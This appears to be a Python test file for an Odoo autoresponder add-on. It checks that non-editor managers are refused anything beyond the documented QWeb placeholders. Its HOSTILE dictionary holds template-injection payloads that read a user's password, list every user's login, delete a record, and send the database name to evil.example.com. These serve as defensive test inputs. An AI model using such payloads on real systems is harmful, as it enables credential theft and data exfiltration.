from odoo import Command
from odoo.exceptions import AccessError
from odoo.tests import Form, tagged, users

from odoo.addons.mail.tests.common import mail_new_test_user

from .common import ResponsoCase, warsaw

FORM_VIEW = "responso_autoresponder.responso_workflow_view_form"
DOCUMENTED = ('<p>Hello <t t-out="object.buyer_id.name"/>, about order <t t-out="object.order_ref"/> on '
              '<t t-out="object.account_id.name"/>: an agent answers within 24 hours.</p>')
# what a manager who is not a Mail Template Editor must never get rendered by the (superuser) sending cron
HOSTILE = {
    "a user's password": '<p><t t-out="object.env.user.password"/></p>',
    "sudo": '<p><t t-out="object.sudo().buyer_id.name"/></p>',
    "a method call": '<p><t t-out="object.buyer_id.unlink()"/></p>',
    "t-esc": '<p><t t-esc="object.buyer_id.name"/></p>',
    "t-set": '<p><t t-set="x" t-value="object.env.cr.dbname"/><t t-out="x"/></p>',
    "t-foreach": '<p><t t-foreach="object.env[\'res.users\'].search([])" t-as="u"><t t-out="u.login"/></t></p>',
    "an attribute": '<p><a t-attf-href="https://evil.example.com/?{{ object.env.cr.dbname }}">x</a></p>',
    "t-if": '<p><t t-if="object.env.user.has_group(\'base.group_system\')">admin</t></p>',
    "a dunder": '<p><t t-out="object.buyer_id.__class__"/></p>',
}


@tagged("post_install", "-at_install")
class TestPlaceholders(ResponsoCase):
    """Managers use the documented placeholders with Odoo's rendering restriction on (the default of a new
    database); anything else needs the Mail Template Editor group. Rights are checked as the real users do it
    over RPC (with_user), never as administrator."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.portal = mail_new_test_user(cls.env, login="responso_portal", name="Paula Portal",
                                        company_id=cls.company.id, groups="base.group_portal")
        cls.editor = mail_new_test_user(
            cls.env, login="responso_editor", name="Edith Editor", company_id=cls.company.id,
            groups="base.group_user,responso_autoresponder.group_responso_manager,mail.group_mail_template_editor")
        cls.conv_allegro.order_ref = "ORD-42"

    def test_restriction_is_on(self):
        """The fixtures keep Odoo's default: managers and agents are no Mail Template Editors."""
        self.assertTrue(self.env["ir.config_parameter"].get_param("mail.restrict.template.rendering"))
        for user in (self.manager, self.agent):
            self.assertFalse(user.has_group("mail.group_mail_template_editor"), user.login)

    @users("responso_manager")
    def test_manager_saves_documented_placeholders(self):
        form = Form(self.env["responso.workflow"], view=FORM_VIEW)
        form.name = "Placeholders"
        form.description = "Greets the buyer by name"
        with form.action_ids.new() as action:
            action.body_html = DOCUMENTED
        with form.condition_ids.new() as condition:
            condition.kind = "trigger"
            condition.trigger = "each_message"
        workflow = form.save()
        action = workflow.action_ids
        self.assertIn('t-out="object.buyer_id.name"', action.body_html)
        # the manager's own preview renders without eval
        body = action._responso_render(self.conv_allegro.with_env(self.env), "en_US")
        self.assertIn("Hello Jan Buyer, about order ORD-42 on Shop Allegro", body)
        # as Odoo's placeholder tool inserts them: with a default for an empty value
        action.body_html = '<p>Order <t t-out="object.order_ref">(no order)</t></p>'
        conversation = self.conv_email.with_env(self.env)
        self.assertIn("Order (no order)", action._responso_render(conversation, "en_US"))
        action.body_html = DOCUMENTED
        # and so does the sending cron
        message = self._post_buyer(self.conv_allegro, at=warsaw(2026, 12, 1, 12, 0))
        self._send_due(at=warsaw(2026, 12, 1, 12, 1))
        reply = self._replies(message)
        self.assertEqual(reply.state, "sent", reply.error)
        self.assertIn("Hello Jan Buyer, about order ORD-42 on Shop Allegro", reply.reply_message_id.body)

    def test_manager_refused_anything_else(self):
        """Over RPC: create, write and translations refuse hostile bodies; nothing is stored."""
        workflow = self._workflow("Hostile")
        action = workflow.action_ids.with_user(self.manager)
        self.env["res.lang"]._activate_lang("fr_FR")
        for label, body in HOSTILE.items():
            with self.subTest(label):
                with self.assertRaises(AccessError):
                    action.write({"body_html": body})
                with self.assertRaises(AccessError):
                    workflow.with_user(self.manager).write(
                        {"action_ids": [Command.create({"body_html": body})]})
                with self.assertRaises(AccessError):
                    action.update_field_translations("body_html", {"fr_FR": body})
                with self.assertRaises(AccessError):
                    action.with_context(lang="fr_FR").write({"body_html": body})
        action.invalidate_recordset()
        self.assertEqual(action.body_html, "<p>We will answer within 24 hours.</p>")
        self.assertEqual(len(workflow.action_ids), 1)

    def test_template_editor_may_use_more(self):
        """The Mail Template Editor group keeps Odoo's full QWeb (here: a formatted date)."""
        workflow = self._workflow("Editor")
        body = '<p>Since <t t-out="format_date(object.create_date)"/></p>'
        workflow.action_ids.with_user(self.editor).write({"body_html": body})
        with self.assertRaises(AccessError):
            workflow.action_ids.with_user(self.manager).write({"body_html": body})

    def test_agent_and_portal_cannot_edit_messages(self):
        workflow = self._workflow("Read only")
        with self.assertRaises(AccessError):
            workflow.action_ids.with_user(self.agent).write({"body_html": DOCUMENTED})
        self.assertIn("24 hours", workflow.action_ids.with_user(self.agent).body_html, "agents read them")
        with self.assertRaises(AccessError):
            workflow.action_ids.with_user(self.portal).read(["body_html"])
        with self.assertRaises(AccessError):
            self.conv_allegro.with_user(self.portal).read(["order_ref"])
